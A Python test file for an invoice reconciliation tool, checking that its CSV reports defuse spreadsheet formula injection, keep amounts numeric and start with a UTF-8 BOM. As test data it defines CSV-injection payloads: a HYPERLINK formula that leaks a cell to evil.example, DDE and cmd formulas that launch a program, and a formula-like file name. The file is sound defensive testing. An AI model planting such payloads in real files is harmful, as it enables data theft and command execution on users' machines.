"""The CSVs are safe to open in a spreadsheet (OWASP, CSV injection): a text cell from data that
starts like a formula is written with a quote before it; money stays a number; a UTF-8 BOM."""

from __future__ import annotations

import csv
import json
import re
from decimal import Decimal, InvalidOperation
from pathlib import Path

import pyarrow as pa
from click.testing import CliRunner

import reconcile.reports.tabular as tabular
from reconcile.cli import main
from reconcile.core.models import Category, Finding, Invoice, Severity
from reconcile.reports.outputs import write_all
from reconcile.reports.cells import (FINDING_COLUMNS, FINDING_NUMBERS, INVOICE_COLUMNS,
                                     INVOICE_NUMBERS, safe_text)
from reconcile.reports.tabular import LINE_COLUMNS

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
DDE = '=DDE("cmd";"/C calc";"!A0")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LINE_NUMBERS = {"line_id", "row", "page", "invoice_date", "period_start", "period_end", "quantity",
                "unit_price", "amount", "match_score"}

INVENTORY = ("Circuit ID,BAN,Vendor,MRC,Install Date\n"
             "12.HCGS.123456..LY,8310-4471-22,Lumen,450.00,2024-01-01\n")


def quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'


def hostile_batch(tmp_path: Path) -> list[str]:
    """One bill whose account, invoice number, carrier, service IDs, descriptions and file
    name are formulas, beside a good line and a credit."""
    rows = [
        ["Vendor", "Account Number", "Invoice No", "Bill Date", "Circuit ID", "Charge Description", "Type",
         "Service Period", "Charge Amount"],
        [SUM, "8310-4471-22", CMD, "04/01/2025", "12/HCGS/123456/LY", "MPLS port", "MRC", "04/01/25-04/30/25",
         "450.00"],
        [SUM, "8310-4471-22", CMD, "04/01/2025", HYPERLINK, DDE, "MRC", "04/01/25-04/30/25", "99.00"],
        [SUM, "8310-4471-22", CMD, "04/01/2025", "", "-12.00 goodwill credit", "Credit", "", "-12.00"],
        [SUM, "8310-4471-22", CMD, "04/01/2025", "@A1", "\tTab first", "MRC", "04/01/25-04/30/25", "5.00"],
    ]
    (tmp_path / "inventory.csv").write_text(INVENTORY)
    name = "=HYPERLINK(1)+cmd.csv"  # a file name is data too
    (tmp_path / name).write_text("\n".join(",".join(quoted(c) for c in r) for r in rows) + "\n")
    return [name, "--inventory", "inventory.csv"]


def read(path: Path) -> list[dict]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name} has no UTF-8 BOM"
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def number_or_date(cell: str) -> bool:
    if not cell or re.fullmatch(r"\d{4}-\d{2}-\d{2}", cell):
        return True
    try:
        return Decimal(cell).is_finite()
    except InvalidOperation:
        return False


def assert_no_formula(rows: list[dict], numbers: set[str]) -> None:
    for r in rows:
        for col, cell in r.items():
            if col in numbers:
                assert number_or_date(cell), (col, cell)
            else:
                assert not cell.startswith(FORMULA_STARTS), (col, cell)


def test_every_csv_is_spreadsheet_safe_and_money_stays_numbers(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    res = CliRunner().invoke(main, ["audit", *hostile_batch(tmp_path), "--out", "out", "--jobs", "1"])
    assert res.exit_code in (0, 1), res.output
    out = tmp_path / "out"

    lines = read(out / "lines.csv")
    assert list(lines[0]) == LINE_COLUMNS
    assert_no_formula(lines, LINE_NUMBERS)
    assert {r["source"] for r in lines} == {"'=HYPERLINK(1)+cmd.csv"}
    assert {r["carrier"] for r in lines} == {"'" + SUM}
    assert {r["invoice_number"] for r in lines} == {"'" + CMD}
    assert ["'" + HYPERLINK, "'" + DDE] in [[r["service_id"], r["description"]] for r in lines]
    credit = next(r for r in lines if r["amount"].startswith("-"))
    assert credit["amount"] == "-12.00" and credit["description"] == "'-12.00 goodwill credit"
    assert next(r for r in lines if r["service_id"] == "'@A1")["description"] == "Tab first"  # read stripped

    findings = read(out / "findings.csv")
    assert list(findings[0]) == FINDING_COLUMNS
    assert_no_formula(findings, FINDING_NUMBERS)
    unknown = next(f for f in findings if f["rule"] == "unknown-service" and "HYPERLINK" in f["service_id"])
    assert unknown["service_id"] == "'" + HYPERLINK and unknown["invoice_number"] == "'" + CMD
    assert unknown["carrier"] == "'" + SUM and unknown["billed_amount"] == "99.00"
    # findings.json is for scripts: the data as it was
    data = json.loads((out / "findings.json").read_text())
    assert HYPERLINK in {f["service_id"] for f in data["findings"]}

    (invoice,) = read(out / "invoices.csv")
    assert list(invoice) == INVOICE_COLUMNS
    assert_no_formula([invoice], INVOICE_NUMBERS)
    assert (invoice["carrier"], invoice["invoice_number"], invoice["source"]) == (
        "'" + SUM, "'" + CMD, "'=HYPERLINK(1)+cmd.csv")
    assert invoice["lines_total"] == "542.00"


def test_hand_built_findings_and_invoices_are_neutralised_per_column(report_audit_result, tmp_path):
    r = report_audit_result
    r.findings.append(Finding(
        rule="late_fee", severity=Severity.LOW, category=Category.IN_YOUR_FAVOUR, carrier=DDE, account=SUM,
        invoice_number="-1", service_id=HYPERLINK, description="\rCR first", billed_amount=Decimal("-12.00"),
        expected_amount=Decimal("0"), amount_at_issue=Decimal("-12.00"), explanation="=1+1"))
    r.invoices.append(Invoice(carrier=CMD, account="@acct", invoice_number="=2", source="-x.csv",
                              previous_balance=Decimal("-5.50"), copies=["+copy.csv"]))
    write_all(r, tmp_path / "out")
    f = read(tmp_path / "out" / "findings.csv")[-1]
    assert (f["carrier"], f["account"], f["invoice_number"], f["service_id"], f["description"],
            f["explanation"]) == ("'" + DDE, "'" + SUM, "'-1", "'" + HYPERLINK, "'\rCR first", "'=1+1")
    assert (f["billed_amount"], f["amount_at_issue"]) == ("-12.00", "-12.00")
    inv = read(tmp_path / "out" / "invoices.csv")[-1]
    assert (inv["carrier"], inv["account"], inv["invoice_number"], inv["source"], inv["copies_set_aside"]) == (
        "'" + CMD, "'@acct", "'=2", "'-x.csv", "'+copy.csv")
    assert inv["previous_balance"] == "-5.50"


def test_the_cells_examples():
    import doctest

    import reconcile.reports.cells as cells

    got = doctest.testmod(cells)
    assert got.attempted and not got.failed


def test_safe_text():
    for text in (HYPERLINK, CMD, SUM, DDE, "-1", "\t1", "\r1", "＝1+1", "＠SUM(1)"):
        assert safe_text(text) == "'" + text
    for text in ("", "ACME", "12.HCGS.123456..LY", " =not a formula", "1+1", "'quoted"):
        assert safe_text(text) == text
    assert safe_text(None) == ""


def test_lines_are_neutralised_once_per_distinct_value(monkeypatch):
    seen = []
    real = tabular._neutralised

    def spy(words):
        seen.append(len(words))
        return real(words)

    monkeypatch.setattr(tabular, "_neutralised", spy)
    col = pa.array([HYPERLINK, "ok", None, "-3"] * 10_000).dictionary_encode()
    got = tabular._safe(col)
    assert seen == [3] and got.to_pylist()[:4] == ["'" + HYPERLINK, "ok", "", "'-3"]
    assert tabular._safe(pa.chunked_array([pa.array(["=a", "=a", "b"])])).to_pylist() == ["'=a", "'=a", "b"]
